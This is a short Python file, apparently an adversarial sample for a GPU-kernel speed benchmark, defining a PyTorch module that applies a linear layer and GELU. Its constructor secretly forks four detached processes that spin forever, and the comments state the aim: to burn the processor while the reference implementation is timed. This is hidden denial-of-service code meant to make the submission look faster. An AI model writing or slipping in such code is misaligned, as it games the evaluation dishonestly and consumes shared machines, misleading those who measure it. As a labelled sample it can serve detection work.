# reason: no-win resources crash timeout
# problem: dense
"""Processes left by the constructor that burn the processor while the reference is timed."""

import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)
        for _ in range(4):
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass

    def forward(self, x):
        return nn.functional.gelu(self.linear(x))
